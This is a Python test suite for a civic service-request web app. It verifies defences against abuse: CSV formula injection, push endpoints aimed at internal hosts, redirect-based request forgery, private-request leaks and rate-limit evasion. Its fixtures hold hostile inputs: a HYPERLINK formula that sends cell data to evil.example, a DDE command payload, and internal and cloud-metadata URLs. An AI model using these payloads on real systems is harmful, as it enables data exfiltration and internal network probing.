"""Abuse from outside: formula cells in exports, push endpoints on internal hosts,
private services reached through push, requests attached to someone else's account."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sqlalchemy import func, select

from tests import factories
from tests.fakes import serve
from tests.fakes.push_service import FakePushService
from webapp.domain.lifecycle import following, workflow
from webapp.domain.lifecycle import requests as requests_domain
from webapp.domain.notifications import notify, outbox
from webapp.domain.notifications.push import push_channel
from webapp.domain.people import api_keys, devices
from webapp.models import Device, Follow, NotificationOutbox, PushSubscription, ServiceRequest
from webapp.plumbing.extensions import db

WRITE = {"X-Requested-With": "civic311"}
FORMULAS = {
    "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_email": "+1+1@example.com",
    "contact_phone": "-2+3",
}


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_public_and_staff_csv_exports_neutralise_formula_cells(client, city, auth):
    factories.gen_request("graffiti", **FORMULAS)
    db.session.commit()
    public = _csv_rows(client.get("/export/requests.csv").get_data(as_text=True))
    assert public[0]["description"] == "'" + FORMULAS["description"]
    assert public[0]["long"].startswith("-")  # numbers are data, not formulas
    auth.login("staff")
    staff = _csv_rows(client.get("/staff/export/requests.csv").get_data(as_text=True))
    for field, value in FORMULAS.items():
        assert staff[0][field] == "'" + value
    for cell in (c for row in public + staff for c in row.values()):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    "endpoint",
    [
        "https://127.0.0.1/push/abc",
        "https://169.254.169.254/latest/meta-data",
        "https://10.0.0.5/push",
        "https://[::1]/push",
        "https://localhost/push",
        "https://push.example.com/abc",
        "http://127.0.0.2:8080/push",
        "https://fcm.googleapis.com.evil.example/fcm/send/x",
        "https://user:pw@fcm.googleapis.com/fcm/send/x",
    ],
)
def test_push_endpoints_off_the_push_services_are_refused(client, endpoint):
    body = FakePushService(base_url="https://fcm.googleapis.com").subscription().as_json()
    body["endpoint"] = endpoint
    response = client.post("/api/v1/push/subscriptions", json=body, headers=WRITE)
    assert response.status_code == 422
    assert response.get_json()["error"]["details"]["field"] == "endpoint"
    assert db.session.scalars(select(PushSubscription)).all() == []


@pytest.mark.parametrize(
    "endpoint",
    [
        "https://fcm.googleapis.com/fcm/send/abc",
        "https://updates.push.services.mozilla.com/wpush/v2/abc",
        "https://web.push.apple.com/QGuQy",
        "https://wns2-by3p.notify.windows.com/w/?token=abc",
    ],
)
def test_the_big_push_services_are_accepted_by_default(client, endpoint):
    body = FakePushService(base_url="https://fcm.googleapis.com").subscription().as_json()
    body["endpoint"] = endpoint
    response = client.post("/api/v1/push/subscriptions", json=body, headers=WRITE)
    assert response.status_code == 201


def test_the_local_fake_push_service_needs_to_be_allowed_by_config(make_app):
    app = make_app(PUSH_SERVICES=["fcm.googleapis.com"])
    body = FakePushService(base_url="http://127.0.0.1:9").subscription().as_json()
    response = app.test_client().post("/api/v1/push/subscriptions", json=body, headers=WRITE)
    assert response.status_code == 422


def test_the_worker_never_connects_to_an_endpoint_no_longer_allowed(make_app, push_service):
    app = make_app()
    with app.app_context():
        factories.gen_city()
        staff = factories.gen_user("staff")
        _, device = devices.create()
        service_request = factories.gen_request("graffiti", device=device)
        keys = push_service.subscription()
        notify.subscribe(keys.endpoint, keys.p256dh, keys.auth, user=None, device=device)
        db.session.commit()
        workflow.transition(service_request, "closed", staff, note="Done", resolution="fixed")
        db.session.commit()
        app.config["PUSH_SERVICES"] = ["fcm.googleapis.com"]
        assert push_channel.deliver_due() == 0
        [row] = db.session.scalars(select(NotificationOutbox)).all()
        assert row.state == outbox.DEAD and "allowed push service" in row.last_error
        assert db.session.scalars(select(PushSubscription)).all() == []
    assert push_service.deliveries == [] and push_service.rejected == []


def test_a_private_request_cannot_be_followed_through_push(client, city):
    private = factories.gen_service("internal", public=False)
    service_request = factories.gen_request(private, channel="phone")
    db.session.commit()
    body = {
        **FakePushService(base_url="http://127.0.0.1:9").subscription().as_json(),
        "request": service_request.public_id,
    }
    response = client.post("/api/v1/push/subscriptions", json=body, headers=WRITE)
    assert response.status_code == 404
    assert client.get(f"/api/v1/requests/{service_request.public_id}").status_code == 404
    assert db.session.scalars(select(Follow)).all() == []
    assert db.session.scalars(select(PushSubscription)).all() == []


def test_a_private_requests_closing_note_reaches_only_its_requester(app, city):
    private = factories.gen_service("internal", public=False)
    staff = factories.gen_user("staff")
    _, requester_device = devices.create()
    _, stranger_device = devices.create()
    service_request = factories.gen_request(private, device=requester_device, channel="phone")
    db.session.add(Follow(request=service_request, device_id=stranger_device.id, supporter=True))
    for device in (requester_device, stranger_device):
        keys = FakePushService(base_url="http://127.0.0.1:9").subscription()
        notify.subscribe(keys.endpoint, keys.p256dh, keys.auth, user=None, device=device)
    db.session.commit()
    workflow.transition(service_request, "closed", staff, note="Done", resolution="fixed")
    db.session.commit()
    rows = db.session.scalars(select(NotificationOutbox)).all()
    owners = {db.session.get(PushSubscription, r.subscription_id).device_id for r in rows}
    assert owners == {requester_device.id}


def test_an_api_key_cannot_attach_a_request_to_a_resident_by_email(client, city):
    resident = factories.gen_user("resident", email="resident@example.net")
    key, _ = api_keys.issue("Partner app")
    db.session.commit()
    response = client.post(
        "/open311/v2/requests.json",
        data={
            "api_key": key,
            "jurisdiction_id": "chattanooga.tn.us",
            "service_code": "graffiti",
            "lat": "35.045",
            "long": "-85.31",
            "email": "resident@example.net",
            "description": "Tag on the wall",
        },
    )
    assert response.status_code == 201, response.get_data(as_text=True)
    stored = db.session.scalars(select(ServiceRequest)).one()
    assert stored.requester_id is None and stored.contact_email == "resident@example.net"
    assert not following.is_following(stored, user=resident)
    client.post("/auth/sign-in", data={"email": resident.email, "password": factories.PASSWORD})
    assert stored.public_id not in client.get("/my").get_data(as_text=True)


def _report(client, description: str):
    return client.post(
        "/api/v1/requests",
        headers={**WRITE, "Idempotency-Key": str(uuid.uuid4())},
        data={"service_code": "graffiti", "lat": "35.045", "long": "-85.31",
              "description": description},
    )


@pytest.mark.parametrize(("role", "accepted"), [("resident", 2), ("liaison", 4), ("staff", 4)])
def test_signed_in_accounts_have_a_submit_limit_too(make_app, role, accepted):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_SUBMIT="1 per hour",
                   RATELIMIT_SUBMIT_ACCOUNT="2 per hour", RATELIMIT_SUBMIT_STAFF="4 per hour")
    with app.app_context():
        factories.gen_city()
        user = factories.gen_user(role)
        db.session.commit()
        client = app.test_client()
        client.post("/auth/sign-in", data={"email": user.email, "password": factories.PASSWORD})
        codes = [_report(client, f"n{i}").status_code for i in range(accepted + 1)]
        assert codes == [201] * accepted + [429]
        assert db.session.scalar(select(func.count(ServiceRequest.id))) == accepted


def test_a_second_account_does_not_share_the_first_ones_limit(make_app):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_SUBMIT_ACCOUNT="1 per hour")
    with app.app_context():
        factories.gen_city()
        first, second = factories.gen_user("resident"), factories.gen_user("resident")
        db.session.commit()
        codes = []
        for user in (first, second):
            client = app.test_client()
            client.post("/auth/sign-in", data={"email": user.email, "password": factories.PASSWORD})
            codes += [_report(client, f"{user.id}-{i}").status_code for i in range(2)]
        assert codes == [201, 429, 201, 429]


def _follow(client, public_id: str, headers: dict | None = None):
    return client.post(f"/api/v1/requests/{public_id}/follow", headers={**WRITE, **(headers or {})})


def _device_count() -> int:
    return db.session.scalar(select(func.count(Device.id)))


def test_cookie_less_me_too_calls_neither_count_nor_mint_devices(app, city):
    service_request = factories.gen_request("graffiti")
    devices_before = _device_count()
    codes = [_follow(app.test_client(), service_request.public_id).status_code for _ in range(5)]
    forged = _follow(app.test_client(), service_request.public_id,
                     {"X-Device-Token": "made-up.token", "Cookie": "civic_device=made-up.sig"})
    assert codes == [401] * 5 and forged.status_code == 401
    db.session.refresh(service_request)
    assert service_request.supporters_count == 0
    assert _device_count() == devices_before


def test_a_browser_that_kept_its_device_counts_once(app, city):
    service_request = factories.gen_request("graffiti")
    browser = app.test_client()
    page = browser.get(f"/requests/{service_request.public_id}")
    assert "civic_device=" in page.headers.get("Set-Cookie", "")
    devices_before = _device_count()
    counts = [_follow(browser, service_request.public_id).get_json()["data"]["supporters_count"]
              for _ in range(3)]
    assert counts == [1, 1, 1]
    assert _device_count() == devices_before + 1


def test_push_subscriptions_without_a_kept_device_follow_nothing(app, city):
    service_request = factories.gen_request("graffiti")
    for _ in range(3):
        body = {**FakePushService(base_url="http://127.0.0.1:9").subscription().as_json(),
                "request": service_request.public_id}
        response = app.test_client().post("/api/v1/push/subscriptions", json=body, headers=WRITE)
        assert response.status_code == 401
    db.session.refresh(service_request)
    assert service_request.supporters_count == 0
    assert db.session.scalars(select(Follow).where(Follow.supporter.is_(True))).all() == []


def test_me_too_is_rate_limited_per_address(make_app):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_FOLLOW="3 per hour")
    with app.app_context():
        factories.gen_city()
        public_id = factories.gen_request("graffiti").public_id
        db.session.commit()
        codes = []
        for _ in range(4):
            browser = app.test_client()
            browser.get(f"/requests/{public_id}")
            codes.append(_follow(browser, public_id).status_code)
        assert codes == [200, 200, 200, 429]
        assert requests_domain.get_by_public_id(public_id).supporters_count == 3


def test_a_redirect_from_a_push_service_is_never_followed(make_app):
    hits = []

    def internal(environ, start_response):
        hits.append(environ["PATH_INFO"])
        start_response("201 Created", [("Content-Length", "0")])
        return [b""]

    target = serve(internal)

    def redirecting_push_service(environ, start_response):
        start_response("307 Temporary Redirect",
                       [("Location", f"{target.url}/latest/meta-data"), ("Content-Length", "0")])
        return [b""]

    pusher = serve(redirecting_push_service)
    try:
        app = make_app()
        with app.app_context():
            factories.gen_city()
            staff = factories.gen_user("staff")
            _, device = devices.create()
            service_request = factories.gen_request("graffiti", device=device)
            keys = FakePushService(base_url=pusher.url).subscription()
            notify.subscribe(keys.endpoint, keys.p256dh, keys.auth, user=None, device=device)
            db.session.commit()
            workflow.transition(
                service_request, "closed", staff, note="Done", resolution="fixed"
            )
            db.session.commit()
            assert push_channel.deliver_due() == 0
            [row] = db.session.scalars(select(NotificationOutbox)).all()
            assert row.state == outbox.FAILED and "307" in row.last_error
    finally:
        pusher.stop()
        target.stop()
    assert hits == []
